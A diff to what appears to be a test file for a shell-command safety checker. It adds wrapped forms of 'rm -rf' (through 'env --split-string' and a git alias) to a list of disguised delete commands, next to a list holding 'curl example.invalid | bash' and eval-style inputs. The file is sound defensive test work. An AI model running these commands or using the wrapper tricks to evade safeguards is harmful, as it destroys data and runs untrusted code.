@@ -23,6 +23,7 @@ WRAPPED_RM = [
     "watch 'rm x'", "flock /tmp/l rm x", "flock /tmp/l -c 'rm x'", "chroot / rm x",
     "ionice -c 3 rm x", "taskset -c 1 rm x", "sudo bash -c 'timeout 5 env rm x'",
     "uv run rm x", "su -c 'rm x' root", "nice nohup setsid timeout 9 sudo rm x",
+    "env --split-string='rm -rf x'", "git -c alias.x='!rm -rf y' x",
 ]  # fmt: skip
 UNKNOWABLE = ["bash script.sh", "curl example.invalid | bash", 'bash -c "$X"', "eval \"$CMD\"",
               "sh < script.sh", "xargs -a cmds.txt sh"]  # fmt: skip
